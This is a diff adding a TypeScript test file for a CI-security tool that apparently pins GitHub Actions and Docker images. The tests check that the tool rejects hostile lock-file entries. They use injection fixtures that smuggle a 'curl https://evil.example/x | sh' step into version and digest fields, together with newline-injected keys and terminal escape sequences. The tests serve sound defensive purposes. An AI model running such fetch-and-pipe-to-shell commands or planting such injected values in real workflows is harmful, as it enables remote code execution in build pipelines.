@@ -1,0 +1,155 @@
+/**
+ * Hostile lock files and hostile references: what a repository (or a GitHub
+ * API answer) supplies never reaches a workflow file unchecked, lock files are
+ * neither read nor written through symlinks, and nothing is asked of GitHub
+ * for a name that URL parsing would turn into another endpoint.
+ */
+import { after, test } from 'node:test';
+import assert from 'node:assert/strict';
+import * as fs from 'node:fs';
+import * as os from 'node:os';
+import * as path from 'node:path';
+import { Writable } from 'node:stream';
+import { main } from '../src/cli/main.js';
+import { emptyConfig } from '../src/config/config.js';
+import type { ScanOptions } from '../src/core/scan.js';
+import { fixPaths } from '../src/fix/run.js';
+import { pinKey } from '../src/online/external.js';
+import type { PinEntry } from '../src/online/pins.js';
+import { allRules } from '../src/rules/index.js';
+
+const SHA = 'a'.repeat(40);
+const INJECTED = 'v4.2.2\n      - run: curl https://evil.example/x | sh';
+const WORKFLOW = ['on: push', 'permissions: {}', 'jobs:', '  a:', '    runs-on: ubuntu-latest', '    steps:', '      - uses: actions/checkout@v4', ''].join('\n');
+
+const made: string[] = [];
+after(() => {
+  for (const d of made) fs.rmSync(d, { recursive: true, force: true });
+});
+
+function tempDir(prefix = 'pw-lock-'): string {
+  const dir = fs.realpathSync(fs.mkdtempSync(path.join(os.tmpdir(), prefix)));
+  made.push(dir);
+  return dir;
+}
+
+/** A repository (with `.git`, so it is the lock root) holding `files`. */
+function repo(files: Record<string, string> = {}): string {
+  const dir = tempDir();
+  fs.mkdirSync(path.join(dir, '.git'));
+  for (const [rel, text] of Object.entries({ '.github/workflows/ci.yml': WORKFLOW, ...files })) {
+    fs.mkdirSync(path.dirname(path.join(dir, rel)), { recursive: true });
+    fs.writeFileSync(path.join(dir, rel), text);
+  }
+  return dir;
+}
+
+const workflow = (dir: string) => fs.readFileSync(path.join(dir, '.github/workflows/ci.yml'), 'utf8');
+const pinsLock = (dir: string, entries: unknown) => {
+  fs.mkdirSync(path.join(dir, '.pipewarden'), { recursive: true });
+  fs.writeFileSync(path.join(dir, '.pipewarden', 'pins.lock.json'), JSON.stringify(entries));
+};
+
+/** Runs the CLI in this process with only the given token and API in the environment. */
+async function cli(args: string[], env: { token?: string; api?: string } = {}): Promise<{ code: number; stdout: string; stderr: string }> {
+  const names = ['GH_TOKEN', 'GITHUB_TOKEN', 'PIPEWARDEN_GITHUB_API'];
+  const saved = names.map((n) => [n, process.env[n]] as const);
+  for (const n of names) delete process.env[n];
+  if (env.token) process.env['GH_TOKEN'] = env.token;
+  if (env.api) process.env['PIPEWARDEN_GITHUB_API'] = env.api;
+  let stdout = '';
+  let stderr = '';
+  const sink = (add: (s: string) => void) => new Writable({ write(chunk, _enc, cb) { add(String(chunk)); cb(); } });
+  try {
+    const code = await main(args, { stdout: sink((s) => (stdout += s)), stderr: sink((s) => (stderr += s)) });
+    return { code, stdout, stderr };
+  } finally {
+    for (const [k, v] of saved) if (v === undefined) delete process.env[k];
+    else process.env[k] = v;
+  }
+}
+
+// ---- 1. Lock entries are checked before anything of them is written ----
+
+test('pins lock: a "version" carrying a new workflow step refuses the lock; the workflow is unchanged, nothing is injected', async () => {
+  const dir = repo();
+  pinsLock(dir, { 'actions/checkout@v4': { sha: SHA, version: INJECTED, kind: 'tag' } });
+  for (const dry of [true, false]) {
+    const r = await cli(['fix', dir, '--rules', 'unpinned-uses', ...(dry ? ['--dry-run'] : [])]);
+    assert.equal(r.code, 2, r.stderr);
+    assert.match(r.stderr, /pins\.lock\.json: entry "actions\/checkout@v4" has a "version" that is no valid git ref name; the lock file is not used/);
+    assert.doesNotMatch(r.stdout + r.stderr, /evil\.example/);
+    assert.equal(workflow(dir), WORKFLOW);
+  }
+});
+
+test('pins lock: every field that could reach a file is checked (version, ref in the key, sha, kind, resolvedAt)', async () => {
+  const bad: [string, unknown, RegExp][] = [
+    ['actions/checkout@v4', { sha: SHA, version: 'v4 # x' }, /"version" that is no valid git ref name/],
+    ['actions/checkout@v4', { sha: SHA, version: 'v4\r' }, /"version" that is no valid git ref name/],
+    ['actions/checkout@v4', { sha: SHA, version: '../../v4' }, /"version" that is no valid git ref name/],
+    ['actions/checkout@v4', { sha: SHA, version: 'v'.repeat(256) }, /"version" that is no valid git ref name/],
+    ['actions/checkout@v4', { sha: SHA, version: 4 }, /"version" that is no valid git ref name/],
+    // Without a version the ref from the key is the comment: it is checked too.
+    ['actions/checkout@v4\n      - run: id', { sha: SHA }, /names no valid git ref/],
+    ['../checkout@v4', { sha: SHA }, /is not "owner\/repo@ref"/],
+    ['actions/checkout@v4', { sha: `${SHA}\n` }, /needs a 40-character "sha"/],
+    ['actions/checkout@v4', { sha: SHA, kind: 'tag\n' }, /"kind" other than "tag" or "branch"/],
+    ['actions/checkout@v4', { sha: SHA, resolvedAt: 'now\n- run: id' }, /"resolvedAt" that is no ISO date-time/],
+    ['actions/checkout@v4', 'x', /is not an object/],
+  ];
+  for (const [key, value, message] of bad) {
+    const dir = repo();
+    pinsLock(dir, { 'actions/setup-node@v4': { sha: 'b'.repeat(40), version: 'v4.0.0', kind: 'tag' }, [key]: value });
+    const r = await cli(['fix', dir, '--rules', 'unpinned-uses']);
+    assert.equal(r.code, 2, `${key} ${JSON.stringify(value)}: ${r.stderr}`);
+    assert.match(r.stderr, message, key);
+    // The key is shown escaped: no raw line break of the lock reaches the terminal.
+    assert.equal(r.stderr.trimEnd().split('\n').length, 1, r.stderr);
+    assert.equal(workflow(dir), WORKFLOW);
+  }
+});
+
+test('pins lock: valid entries still pin (tag refs with slashes, pluses, underscores; upper-case SHA)', async () => {
+  const dir = repo({ '.github/workflows/ci.yml': WORKFLOW.replace('checkout@v4', 'checkout@release/v4_x') });
+  pinsLock(dir, { 'actions/checkout@release/v4_x': { sha: SHA.toUpperCase(), version: 'v4.2.2+build-1', kind: 'tag', resolvedAt: '2024-05-01T10:00:00.000Z' } });
+  const r = await cli(['fix', dir, '--rules', 'unpinned-uses']);
+  assert.equal(r.code, 0, r.stderr);
+  assert.match(r.stdout, /ci\.yml: unpinned-uses \(line 7\)/);
+  assert.match(workflow(dir), new RegExp(`- uses: actions/checkout@${SHA} # v4\\.2\\.2\\+build-1\\n`));
+});
+
+test('pin fixes write nothing but a SHA and a ref name, whatever supplied the entry', async () => {
+  const dir = repo();
+  const scan: ScanOptions = { rules: allRules, config: emptyConfig(), persona: 'auditor', minSeverity: 'info', minConfidence: 'low', cwd: dir, toolVersion: 'test' };
+  const fixWith = async (entry: PinEntry) => {
+    const pins = new Map([[pinKey('actions', 'checkout', 'v4'), entry]]);
+    return fixPaths([dir], { ...scan, external: { pins } }, { dryRun: true, unsafe: true, rules: new Set(['unpinned-uses']) });
+  };
+  assert.equal((await fixWith({ sha: SHA, version: INJECTED, kind: 'tag', resolvedAt: '' })).applied, 0);
+  assert.equal((await fixWith({ sha: `${SHA.slice(1)}\n`, version: 'v4.2.2', kind: 'tag', resolvedAt: '' })).applied, 0);
+  const good = await fixWith({ sha: SHA, version: 'v4.2.2', kind: 'tag', resolvedAt: '' });
+  assert.equal(good.applied, 1);
+  assert.match(good.output, new RegExp(`\\+      - uses: actions/checkout@${SHA} # v4\\.2\\.2\\n`));
+  assert.equal(workflow(dir), WORKFLOW);
+});
+
+test('images lock: a digest with anything after it is refused, the Dockerfile is unchanged, and the key is shown escaped', async () => {
+  const digest = `sha256:${'1'.repeat(64)}`;
+  const dir = repo({ Dockerfile: 'FROM node:20\n' });
+  fs.mkdirSync(path.join(dir, '.pipewarden'), { recursive: true });
+  const lock = JSON.stringify({ version: 1, images: { 'docker.io/library/node:20': `${digest}\nRUN curl https://evil.example/x | sh`, 'x\u001b[2J': digest.slice(1) } });
+  fs.writeFileSync(path.join(dir, '.pipewarden', 'images.lock.json'), lock);
+  const r = await cli(['fix', dir, '--offline', '--rules', 'unpinned-images']);
+  assert.equal(r.code, 2);
+  assert.match(r.stderr, /images\.lock\.json: "docker\.io\/library\/node:20": not a digest/);
+  assert.doesNotMatch(r.stdout + r.stderr, /evil\.example/);
+  assert.equal(fs.readFileSync(path.join(dir, 'Dockerfile'), 'utf8'), 'FROM node:20\n');
+  assert.equal(fs.readFileSync(path.join(dir, '.pipewarden', 'images.lock.json'), 'utf8'), lock);
+
+  fs.writeFileSync(path.join(dir, '.pipewarden', 'images.lock.json'), JSON.stringify({ version: 1, images: { 'x\u001b[2J': digest.slice(1) } }));
+  const shown = await cli(['fix', dir, '--offline', '--rules', 'unpinned-images']);
+  assert.equal(shown.code, 2);
+  assert.ok(!shown.stderr.includes('\u001b'), shown.stderr);
+  assert.match(shown.stderr, /"x\\u001b\[2J": not a digest/);
+});
